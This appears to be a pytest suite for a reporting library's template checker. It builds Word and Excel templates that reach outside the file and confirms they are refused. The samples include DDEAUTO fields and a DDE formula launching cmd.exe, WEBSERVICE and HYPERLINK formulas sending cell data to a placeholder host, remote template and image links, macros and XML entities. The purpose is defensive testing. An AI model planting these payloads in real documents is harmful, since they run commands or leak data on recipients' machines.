"""Templates that reach out of the file: refused, so that no report fetches anything or runs it."""

from __future__ import annotations

import datetime as dt
import threading
import zipfile
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import docx
import openpyxl
import pandas as pd
import pytest
from openpyxl.formatting.rule import FormulaRule
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation
from openpyxl.worksheet.formula import ArrayFormula

import gridkit as gk
from gridkit import reports
from gridkit.errors import DataError
from gridkit.exchange.printing import convert, find_office
from gridkit.reports.outward import outward

TABLE = pd.DataFrame({"件数": [3, 4]})
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"

LINK = '<Relationship Id="rIdX" Type="{kind}" Target="{target}" TargetMode="{mode}"/>'
PICTURE = (
    '<w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" style="width:90pt;height:90pt">'
    '<v:imagedata xmlns:r="{OFFICE}" {how}/></v:shape></w:pict></w:r>'
)

DRAWING = "http://schemas.openxmlformats.org/drawingml/2006"
LINKED = (
    f'<w:r><w:drawing><wp:inline xmlns:wp="{DRAWING}/wordprocessingDrawing">'
    '<wp:extent cx="900000" cy="900000"/><wp:docPr id="1" name="a"/>'
    f'<a:graphic xmlns:a="{DRAWING}/main"><a:graphicData uri="{DRAWING}/picture">'
    f'<pic:pic xmlns:pic="{DRAWING}/picture"><pic:nvPicPr><pic:cNvPr id="0" name="x"/>'
    f'<pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip xmlns:r="{OFFICE}" r:link="rIdX"/>'
    "<a:stretch><a:fillRect/></a:stretch></pic:blipFill><pic:spPr><a:xfrm>"
    '<a:off x="0" y="0"/><a:ext cx="900000" cy="900000"/></a:xfrm><a:prstGeom prst="rect"/>'
    "</pic:spPr></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r>"
)


def link(kind, target, mode="External"):
    """Write a relationship to something."""
    return LINK.format(kind=f"{OFFICE}/{kind}", target=target, mode=mode)


def field(*codes, result="x"):
    """Write a field whose code stands in several runs."""
    mark = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'.format
    texts = (
        f'<w:r><w:instrText xml:space="preserve">{code}</w:instrText></w:r>' for code in codes
    )
    shown = f"<w:r><w:t>{result}</w:t></w:r>"
    return f"{mark('begin')}{''.join(texts)}{mark('separate')}{shown}{mark('end')}"


def within(inner, code):
    """Write a field whose code is put together by another."""
    mark = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'.format
    rest = f"<w:r><w:instrText>{code}</w:instrText></w:r>"
    return f"{mark('begin')}{inner}{rest}{mark('separate')}{mark('end')}"


def word(path, body="<w:r><w:t>x</w:t></w:r>", links="", parts=()):
    """Write a Word file with these runs, relationships and parts put in."""
    page = docx.Document()
    page.add_paragraph("{{ county }}")
    page.add_paragraph("MARK")
    page.save(str(path.with_suffix(".plain")))
    with zipfile.ZipFile(path.with_suffix(".plain")) as old, zipfile.ZipFile(path, "w") as new:
        for name in old.namelist():
            data = old.read(name).replace(b"<w:r><w:t>MARK</w:t></w:r>", body.encode())
            if name == "word/_rels/document.xml.rels":
                data = data.replace(b"</Relationships>", f"{links}</Relationships>".encode())
            new.writestr(name, data)
        for name, data in parts:
            new.writestr(name, data)
    return path


FAULTS = {
    "a linked picture": {"links": link("image", "http://x.example/a.png")},
    "a picture on a server": {"links": link("image", "\\\\server\\a.png", "Internal")},
    "a picture named by its address": {
        "body": PICTURE.format(OFFICE=OFFICE, how='src="http://x.example/a.png"')
    },
    "a template on the web": {"links": link("attachedTemplate", "https://x.example/a.dotm")},
    "a template on a server": {"links": link("attachedTemplate", "file://server/a.dotm")},
    "a linked object": {"links": link("oleObject", "file:///C:/a.xlsx")},
    "a chunk of HTML": {"links": link("aFChunk", "chunk.html", "Internal")},
    "a picture by a field": {"body": field(' INCLUDEPICTURE "http://x.example/a.png" \\d ')},
    "a program by a field": {"body": field(' DDEAUTO c:\\\\cmd.exe "/k calc" ')},
    "a field in two runs": {"body": field(" DDE", "AUTO a b ")},
    "a field in lower case": {"body": field(" includetext a.docx ")},
    "a field of one part": {"body": '<w:fldSimple w:instr=" DDE a b "/>'},
    "a field put together by another": {
        "body": within(field(" QUOTE 68 68 69 ", result="DDE"), " a b ")
    },
    "macros": {"parts": [("word/vbaProject.bin", b"x")]},
    "a control": {"parts": [("word/activeX/activeX1.bin", b"x")]},
    "an embedded file": {"parts": [("word/embeddings/oleObject1.bin", b"x")]},
    "a part that is no XML": {"parts": [("word/other.xml", b"<a><b></a>")]},
    "a part with entities": {
        "parts": [("word/other.xml", b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>')]
    },
}


@pytest.mark.parametrize("fault", FAULTS)
def test_a_word_template_that_reaches_out_is_refused(tmp_path, fault):
    """Linked pictures, templates and objects, fields that read or run, macros: told by name."""
    assert outward(word(tmp_path / "own.docx", **FAULTS[fault]))


def test_what_a_county_may_have_in_its_template_is_left(tmp_path):
    """Page numbers, a date, a link to click, Word's note of its own template."""
    body = field(" PAGE \\* MERGEFORMAT ") + field(" = ", "1+1 ") + field(' DATE \\@ "yyyy" ')
    links = link("hyperlink", "https://x.example/") + link(
        "attachedTemplate", "file:///C:\\Users\\a\\Normal.dotm"
    )
    own = word(tmp_path / "own.docx", body + within(field(" PAGE "), "="), links)

    assert [one.field for one in outward(own)] == ["域 ?="]  # put together: the only one
    assert outward(word(tmp_path / "own.docx", body, links)) == []


@pytest.mark.skipif(find_office() is None, reason="needs LibreOffice")
def test_templates_that_an_office_program_saved_are_left(tmp_path):
    """The packaged one and a first sheet, saved again by LibreOffice, reach out for nothing."""
    reports.take_out(tmp_path / "a.docx")
    convert(tmp_path / "a.docx", "docx", tmp_path / "b.docx")
    sheet(tmp_path / "a.xlsx", lambda _: None)
    convert(tmp_path / "a.xlsx", "xlsx", tmp_path / "b.xlsx")

    assert [outward(tmp_path / name) for name in ("a.docx", "b.docx", "a.xlsx", "b.xlsx")] == [
        [],
        [],
        [],
        [],
    ]


def sheet(path, put):
    """Write an Excel template with something put in."""
    book = openpyxl.Workbook()
    book.active.append(["件数", "占比"])
    book.active.append(["{{ 件数 }}", "=A2/SUM(A$2:A2)"])
    put(book)
    book.save(path)
    return path


def named(book):
    """Hide a web service behind a name."""
    book.defined_names["x"] = DefinedName("x", attr_text='WEBSERVICE("http://x.example/")')


def listed(book):
    """Hide it in a drop-down list."""
    rule = DataValidation(type="custom", formula1='WEBSERVICE("http://x.example/")="a"')
    rule.add("D7")
    book.active.add_data_validation(rule)


def colored(book):
    """Hide it in a conditional format."""
    rule = FormulaRule(formula=['WEBSERVICE("http://x.example/")="a"'])
    book.active.conditional_formatting.add("D7", rule)


def cell(formula):
    """Put a formula into a cell."""
    return lambda book: book.active.__setitem__("D7", formula)


FORMULAS = {
    "a name": named,
    "a list": listed,
    "a format": colored,
    "several cells": cell(ArrayFormula("D7:D8", '=WEBSERVICE("http://x.example/")')),
    "a link made of figures": cell('=HYPERLINK("x.example/?"&A2,"x")'),
    "an address put together": cell("=INDIRECT(\"'http://x.example/a.xlsx'#$Sheet1.A1\")"),
    "another program": cell("=MSEXCEL|'\\..\\cmd.exe'!A1"),
    "a server": cell("='\\\\server\\[a.xlsx]Sheet1'!A1"),
    "a service": cell('=_xlfn.WEBSERVICE("x")'),
    "a picture": cell('=_xlfn.IMAGE("x")'),
}


@pytest.mark.parametrize("where", FORMULAS)
def test_a_sheet_template_that_reaches_out_is_refused(tmp_path, where):
    """In whatever a formula stands, not only in a plain cell; it is told where."""
    own = sheet(tmp_path / "own.xlsx", FORMULAS[where])

    with pytest.raises(DataError) as refused:
        reports.fill_sheet(own, tmp_path / "o.xlsx", TABLE, {})

    (problem,) = refused.value.problems
    assert "表外" in problem.zh
    assert "D7" in problem.row or problem.field == "x"
    assert not (tmp_path / "o.xlsx").exists()


class Asked(BaseHTTPRequestHandler):
    """Notes that somebody asked."""

    def note(self):
        """Answer nothing."""
        self.server.asked.append(self.path)
        self.send_error(404)

    def __getattr__(self, name):
        """Take every method alike."""
        if name.startswith("do_"):
            return self.note
        raise AttributeError(name)

    def log_message(self, *_args):
        """Keep quiet."""


@pytest.mark.skipif(find_office() is None, reason="needs LibreOffice")
def test_a_picture_on_the_web_is_fetched_by_nobody(tmp_path):
    """The report is not written at all; and printed past that, LibreOffice asks for nothing."""
    with ThreadingHTTPServer(("127.0.0.1", 0), Asked) as server:
        server.asked = []
        threading.Thread(target=server.serve_forever, daemon=True).start()
        address = f"http://127.0.0.1:{server.server_port}/a.png"
        own = word(tmp_path / "own.docx", LINKED, link("image", address))
        workspace = gk.create_workspace(tmp_path / "w", name="青溪县", county_code="990428")
        desk = reports.read_desk(workspace, on=dt.date(2026, 10, 21))
        with pytest.raises(DataError) as refused:
            reports.half_month(desk, tmp_path / "r.docx", template=own)
        workspace.close()
        convert(own, "pdf", tmp_path / "own.pdf")
        server.shutdown()

    assert "文件之外" in refused.value.problems[0].zh
    assert not (tmp_path / "r.docx").exists()
    assert (tmp_path / "own.pdf").read_bytes().startswith(b"%PDF")
    assert server.asked == []
